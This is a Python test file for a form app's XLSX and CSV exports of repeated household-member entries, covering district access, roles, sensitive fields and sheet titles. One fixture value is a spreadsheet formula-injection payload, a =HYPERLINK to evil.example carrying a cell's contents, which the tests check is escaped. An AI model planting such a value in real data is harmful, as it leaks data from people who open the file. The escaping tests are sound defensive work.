"""Exports of repeats: a sheet per repeat in the XLSX, a long CSV per repeat.

Households are sent over HTTP without JavaScript, members added with the page's own
buttons (as tests/test_repeats.py does); a coordinator of one district downloads what
the back office offers and reads it as a spreadsheet program would.
"""

from __future__ import annotations

import copy
import csv
import io
from pathlib import Path

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from intake.engine.definition import load_file
from intake.extensions import db
from intake.reports.exports import sheet_titles
from intake.storage.forms import import_definition
from intake.storage.models import AuditEvent
from tests.conftest import form_payload, install_form

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1;"Klick")'
#: What the repeat sheet shows of each question (German headers of tests/forms/members.yaml).
QUESTIONS = ["Vorname", "Wie alt ist …?", "Beziehung", "Geht … zur Schule?", "entry_no"]
MAINZ_MEMBERS = [
    {"member_name": "Omar", "member_age": "41", "relation": "partner"},
    {"member_name": "Lina", "member_age": "9", "relation": "child", "school": "yes"},
    {"member_name": HOSTILE, "member_age": "4", "relation": "child"},
]
KREUZNACH_MEMBERS = [{"member_name": "Karim", "member_age": "30", "relation": "other"}]


def send_household(client, district: str, contact: str, members: list[dict]) -> None:
    """Fill the household form like a person without JavaScript: the first entry is
    open, each further one is added with the page's "add" button, then it is sent."""
    url = f"/f/mitglieder?district={district}"
    html = client.get(url).get_data(as_text=True)
    answers: dict[str, str] = {"contact": contact}
    for number, member in enumerate(members, start=1):
        answers |= {f"{name}-{number}": value for name, value in member.items()}
        last = number == len(members)
        nav = "send" if last else "add:members"
        sent = client.post(
            url, data=form_payload(html, {**answers, "members": str(number), "nav": nav})
        )
        if last:
            assert sent.status_code == 303, sent.get_data(as_text=True)
        else:
            assert sent.status_code == 200
            html = sent.get_data(as_text=True)


@pytest.fixture
def households(app, client):
    """Three members in Mainz-Bingen, one in Bad Kreuznach."""
    install_form(app, "members.yaml")
    send_household(client, "mainz-bingen", "Amal", MAINZ_MEMBERS)
    send_household(client, "bad-kreuznach", "Rana", KREUZNACH_MEMBERS)


@pytest.fixture
def mainz(create_user, auth, households):
    create_user("mz@example.org", districts=("mainz-bingen",))
    auth.login("mz@example.org")


def parse_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def workbook(client, query: str = "lang=de"):
    response = client.get(f"/admin/exports/mainz-bingen/mitglieder.xlsx?{query}")
    assert response.status_code == 200
    return load_workbook(io.BytesIO(response.data))


def values(sheet) -> list[list[str]]:
    return [[c.value or "" for c in row] for row in sheet.iter_rows()]


def test_xlsx_has_a_sheet_of_the_entries_of_own_district_only(client, mainz):
    book = workbook(client)
    assert book.sheetnames == ["Rückmeldungen", "Haushaltsmitglied"]
    wide = values(book["Rückmeldungen"])
    assert len(wide) == 2  # the header and Mainz-Bingen's household
    header, household = wide
    row = dict(zip(header, household, strict=True))
    assert row["Ihr Name"] == "Amal"
    assert row["Haushaltsmitglied"] == "3"  # the repeat: its number of entries
    for question in QUESTIONS:
        assert question not in header  # no entry's answers in the wide sheet
    assert row["Landkreis"] == "Landkreis Mainz-Bingen"
    reference = row["Referenzcode"]

    sheet = book["Haushaltsmitglied"]
    assert values(sheet) == [
        ["Referenzcode", "Eintrag", *QUESTIONS],
        [reference, "1", "Omar", "41", "Partner/in", "", "1"],
        [reference, "2", "Lina", "9", "Kind", "Ja", "2"],
        [reference, "3", "'" + HOSTILE, "4", "Kind", "", "3"],
    ]
    assert sheet.cell(1, 1).font.bold
    assert all(c.data_type == "s" for row in sheet.iter_rows() for c in row if c.value)
    everything = [cell for name in book.sheetnames for row in values(book[name]) for cell in row]
    assert "Karim" not in everything
    assert "Rana" not in everything
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in everything)


def test_long_csv_has_a_row_per_entry(app, client, mainz):
    wide = parse_csv(client.get("/admin/exports/mainz-bingen/mitglieder.csv?lang=de").data)
    assert len(wide) == 2
    assert not set(QUESTIONS) & set(wide[0])
    reference = wide[1][0]

    response = client.get("/admin/exports/mainz-bingen/mitglieder.csv?lang=de&repeat=members")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith('attachment; filename="intake-mainz-bingen-mitglieder-members-')
    assert response.data.startswith(b"\xef\xbb\xbf")
    assert parse_csv(response.data) == [
        ["Referenzcode", "Wiederholung", "Eintrag", *QUESTIONS],
        [reference, "Haushaltsmitglied", "1", "Omar", "41", "Partner/in", "", "1"],
        [reference, "Haushaltsmitglied", "2", "Lina", "9", "Kind", "Ja", "2"],
        [reference, "Haushaltsmitglied", "3", "'" + HOSTILE, "4", "Kind", "", "3"],
    ]
    english = parse_csv(client.get("/admin/exports/all/mitglieder.csv?lang=en&repeat=members").data)
    assert english[0][:3] == ["Reference", "Repeat", "Entry"]
    assert [row[3] for row in english[1:]] == ["Omar", "Lina", "'" + HOSTILE]
    with app.app_context():
        event = db.session.scalar(sa.select(AuditEvent).order_by(AuditEvent.id.desc()))
        assert (event.action, event.outcome) == ("export.csv", "ok")
        assert event.target == "export:all/mitglieder lang=en repeat=members"


def test_the_other_districts_entries_stay_hidden(client, mainz):
    response = client.get("/admin/exports/bad-kreuznach/mitglieder.csv?repeat=members")
    assert response.status_code == 404
    assert "Karim" not in response.get_data(as_text=True)


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ("repeat=nope", "&#39;repeat&#39; must name a repeat of this form: members."),
        ("repeat=contact", "&#39;repeat&#39; must name a repeat of this form: members."),
    ],
)
def test_unknown_repeat_is_400(client, mainz, query, message):
    response = client.get(f"/admin/exports/mainz-bingen/mitglieder.csv?lang=en&{query}")
    assert response.status_code == 400
    assert message in response.get_data(as_text=True)
    xlsx = client.get("/admin/exports/mainz-bingen/mitglieder.xlsx?lang=en&repeat=members")
    assert xlsx.status_code == 400
    assert "the XLSX has a sheet per repeat" in xlsx.get_data(as_text=True)


def test_a_form_without_repeats_says_so(client, mainz):
    response = client.get("/admin/exports/mainz-bingen/volunteer.csv?lang=en&repeat=members")
    assert response.status_code == 400
    assert "This form has no repeats." in response.get_data(as_text=True)


def test_viewer_gets_no_entries(app, client, auth, create_user, households):
    create_user("viewer@example.org", role="viewer", districts=("mainz-bingen",))
    auth.login("viewer@example.org")
    response = client.get("/admin/exports/mainz-bingen/mitglieder.csv?repeat=members")
    assert response.status_code == 403
    assert "Omar" not in response.get_data(as_text=True)
    with app.app_context():
        event = db.session.scalar(sa.select(AuditEvent).order_by(AuditEvent.id.desc()))
        assert (event.action, event.outcome) == ("export.csv", "denied")


def test_sensitive_question_of_a_repeat_only_when_asked(app, client, auth, create_user):
    definition = copy.deepcopy(load_file(Path(__file__).parent / "forms" / "members.yaml"))
    definition["form"] = "mitglieder"
    repeat = next(f for f in definition["fields"] if f["name"] == "members")
    age = next(f for f in repeat["fields"] if f["name"] == "member_age")
    age["sensitive"] = True
    with app.app_context():
        import_definition(definition)
        db.session.commit()
    send_household(client, "mainz-bingen", "Amal", MAINZ_MEMBERS[:2])
    create_user("mz@example.org", districts=("mainz-bingen",))
    auth.login("mz@example.org")
    plain = values(workbook(client)["Haushaltsmitglied"])
    assert plain[0] == [
        "Referenzcode",
        "Eintrag",
        "Vorname",
        "Beziehung",
        "Geht … zur Schule?",
        "entry_no",
    ]
    assert [row[2] for row in plain[1:]] == ["Omar", "Lina"]
    assert "41" not in [cell for row in plain for cell in row]
    revealed = values(workbook(client, "lang=de&sensitive=1")["Haushaltsmitglied"])
    assert [row[3] for row in revealed] == ["Wie alt ist …?", "41", "9"]
    long = parse_csv(
        client.get("/admin/exports/mainz-bingen/mitglieder.csv?repeat=members&sensitive=1").data
    )
    assert [row[4] for row in long[1:]] == ["41", "9"]
    with app.app_context():
        event = db.session.scalar(sa.select(AuditEvent).order_by(AuditEvent.id.desc()))
        assert event.action == "export.csv.sensitive"
        assert "repeat=members" in event.target


def test_sheet_titles_are_what_excel_accepts():
    long = "Kinder unter achtzehn Jahren im Haushalt"
    titles = sheet_titles(
        ["Rückmeldungen", "Partner/in: [Name]?", long, long, "rückmeldungen", "'''", "History"],
        ["main", "partner", "kids", "kids", "back", "quotes", "history"],
    )
    assert titles == [
        "Rückmeldungen",
        "Partner in Name",
        "Kinder unter achtzehn Jahren im",
        "Kinder unter achtzehn Jahre (2)",
        "rückmeldungen (2)",
        "quotes",
        "History (2)",
    ]
    assert all(len(t) <= 31 for t in titles)
